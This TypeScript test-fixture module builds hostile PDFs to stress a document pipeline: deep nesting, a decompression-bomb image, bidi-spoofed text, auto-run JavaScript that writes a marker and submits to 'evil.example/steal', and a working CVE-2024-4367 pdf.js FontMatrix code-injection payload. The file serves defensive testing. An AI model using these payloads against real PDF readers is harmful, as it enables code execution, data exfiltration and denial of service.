import { deflateSync } from 'node:zlib';
import { makePdf, rawPdf, textMatrix } from './make-pdf.js';

/**
 * Hostile PDFs, written byte by byte at test time (nothing binary is committed): each
 * is a valid file built to stress one thing — size, depth, active content, a font
 * program aimed at pdf.js, a huge image, text outside plain Latin.
 */


function stream(data: string | Buffer, dict = ''): string {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  return `<< /Length ${bytes.length}${dict} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
}

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** One page of text lines in Helvetica: the shape every fixture below builds on. */
function textPage(lines: readonly string[], size = 11): string {
  return lines.map((l, i) => `BT /F0 ${size} Tf 72 ${720 - i * 16} Td (${l.replace(/[\\()]/g, (c) => `\\${c}`)}) Tj ET`).join('\n');
}

/** `pages` pages, each saying which page it is and a phrase unique to it. */
export function manyPagesPdf(pages: number): Uint8Array {
  return makePdf(Array.from({ length: pages }, (_, i) => ({ runs: [{ text: `Exhibit page ${i + 1} of ${pages}: schedule item ${toWords(i + 1)}.`, matrix: textMatrix(11, 72, 720) }] })));
}

function toWords(n: number): string {
  // A token unique per page that the FTS tokenizer keeps whole: "q1500x".
  return `q${n}x`;
}

/** One page of `side` × `side` points (14,400 is the PDF 1.7 limit without UserUnit) with text near its corners. */
export function hugePagePdf(side: number): Uint8Array {
  return makePdf([
    {
      mediaBox: [0, 0, side, side],
      runs: [
        { text: 'Top left: the parties agree to the billboard schedule.', matrix: textMatrix(24, 100, side - 100) },
        { text: 'Bottom right: signed by the landlord.', matrix: textMatrix(24, side - 900, 100) },
      ],
    },
  ]);
}

/**
 * A valid one-page file with arrays nested `depth` deep in the page's resources and a
 * page tree `treeDepth` levels deep: readers that recurse without a bound run out of stack.
 */
export function deeplyNestedPdf(depth: number, treeDepth: number): Uint8Array {
  const content = textPage(['Deeply nested file: the page text is still readable.']);
  // 1 catalog, 2 font, 3 content, 4 page, 5.. intermediate Pages nodes (5 is the root of the tree).
  const objects: string[] = ['<< /Type /Catalog /Pages 5 0 R >>', HELVETICA, stream(content), ''];
  const nodes = Array.from({ length: treeDepth }, (_, i) => 5 + i);
  nodes.forEach((id, i) => {
    const parent = i === 0 ? '' : ` /Parent ${id - 1} 0 R`;
    const kid = i === nodes.length - 1 ? 4 : id + 1;
    objects.push(`<< /Type /Pages${parent} /Kids [${kid} 0 R] /Count 1 >>`);
  });
  const nested = '['.repeat(depth) + ']'.repeat(depth);
  const dictNested = '<< /A '.repeat(depth) + '1' + ' >>'.repeat(depth);
  objects[3] = `<< /Type /Page /Parent ${nodes.at(-1)} 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F0 2 0 R >> /Junk ${nested} /Deep ${dictNested} >> /Contents 3 0 R >>`;
  return rawPdf(objects);
}

/** A page of text with JavaScript that runs on open, on page open, and as a named script: each would write `marker`. */
export function javascriptPdf(marker: string): Uint8Array {
  const js = `try { require('fs').writeFileSync(${JSON.stringify(marker)}, 'pwned'); } catch (e) {} app.alert('pwned'); this.submitForm('http://evil.example/steal');`;
  const lit = js.replace(/[\\()]/g, (c) => `\\${c}`);
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(boot) 6 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F0 7 0 R >> >> /Contents 4 0 R /AA << /O 5 0 R >> >>',
    stream(textPage(['This Services Agreement carries active content.', 'Payment is due within thirty days of invoice.'])),
    `<< /Type /Action /S /JavaScript /JS (${lit}) >>`,
    '<< /Type /Action /S /JavaScript /JS 8 0 R >>',
    HELVETICA,
    stream(js),
  ];
  return rawPdf(objects);
}

/**
 * The shape of CVE-2024-4367: a font whose /FontMatrix carries a string that pdf.js
 * before 4.2 pasted into glyph-drawing code compiled with `new Function` when it drew
 * glyphs as paths (disableFontFace, as OCR rendering uses). The payload writes `marker`.
 */
export function fontMatrixExploitPdf(marker: string): Uint8Array {
  const payload = `0\\); (globalThis.process && process.getBuiltinModule ? process.getBuiltinModule('fs') : require('fs')).writeFileSync(${JSON.stringify(marker).replace(/"/g, "'")}, 'pwned'); //`;
  const font = `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /FontMatrix [0.001 0 0 0.001 0 (${payload})] >>`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F0 5 0 R >> >> /Contents 4 0 R >>',
    stream(textPage(['Font matrix exploit probe: this text must be read, never run.'])),
    font,
  ];
  return rawPdf(objects);
}

/** One page that is a single `w` × `h` grey image and nothing else (a scan of a poster, or a decompression bomb). */
export function hugeImagePdf(w: number, h: number): Uint8Array {
  // Rows of a mid grey compress to almost nothing: a small file that decodes huge.
  const row = Buffer.alloc(w, 0x80);
  const raw = Buffer.concat(Array.from({ length: h }, () => row));
  const data = deflateSync(raw, { level: 9 });
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>',
    stream('q 612 0 0 792 0 0 cm /Im0 Do Q'),
    stream(data, ` /Type /XObject /Subtype /Image /Width ${w} /Height ${h} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`),
  ];
  return rawPdf(objects);
}

/** Text outside plain Latin, and the characters that trip text pipelines up. */
export const UNICODE_LINES = [
  { label: 'hebrew', text: 'שלום עולם הסכם', rtl: true },
  { label: 'arabic', text: 'عقد الإيجار', rtl: true },
  { label: 'combining', text: 'cafe\u0301 re\u0301sume\u0301 na\u0308ive' },
  { label: 'ligatures', text: 'the ﬁnal ﬂoor ofﬁce' },
  { label: 'nul', text: 'before\u0000after' },
  { label: 'bidi controls', text: 'invoice \u202etxt.exe\u202c total' },
  { label: 'astral', text: 'seal 𝐀𝐁𝐂 ✓' },
] as const;

/**
 * Each line drawn with one-byte codes in Helvetica, mapped by a /ToUnicode CMap to the
 * Unicode above (code 0x00 maps to U+0000): what a PDF producer emits for these scripts.
 */
export function unicodePdf(): Uint8Array {
  const chars = [...new Set(UNICODE_LINES.flatMap((l) => [...l.text]))].filter((c) => c !== '\u0000');
  if (chars.length > 250) throw new Error('too many distinct characters for one-byte codes');
  const code = new Map<string, number>([['\u0000', 0]]);
  chars.forEach((c, i) => code.set(c, i + 1));
  const hex = (n: number) => n.toString(16).padStart(2, '0').toUpperCase();
  const utf16 = (c: string) => Buffer.from(c, 'utf16le').swap16().toString('hex').toUpperCase();
  const entries = [...code].map(([c, n]) => `<${hex(n)}> <${utf16(c)}>`);
  const cmap = [
    '/CIDInit /ProcSet findresource begin 12 dict begin begincmap',
    '/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def /CMapName /Adobe-Identity-UCS def /CMapType 2 def',
    '1 begincodespacerange <00> <FF> endcodespacerange',
    ...chunks(entries, 100).map((c) => `${c.length} beginbfchar\n${c.join('\n')}\nendbfchar`),
    'endcmap CMapName currentdict /CMap defineresource pop end end',
  ].join('\n');
  // Right-to-left lines are drawn as they are seen, right to left: glyphs in visual order.
  const drawn = (l: (typeof UNICODE_LINES)[number]) => ('rtl' in l ? [...l.text].reverse() : [...l.text]);
  const content = UNICODE_LINES.map((l, i) => `BT /F1 12 Tf 72 ${720 - i * 20} Td <${drawn(l).map((c) => hex(code.get(c)!)).join('')}> Tj ET`).join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream(content),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 0 /LastChar 255 /Widths [' + Array(256).fill(600).join(' ') + '] /ToUnicode 6 0 R >>',
    stream(cmap),
  ];
  return rawPdf(objects);
}

function chunks<T>(xs: readonly T[], n: number): T[][] {
  const out: T[][] = [];
  for (let i = 0; i < xs.length; i += n) out.push(xs.slice(i, i + n));
  return out;
}
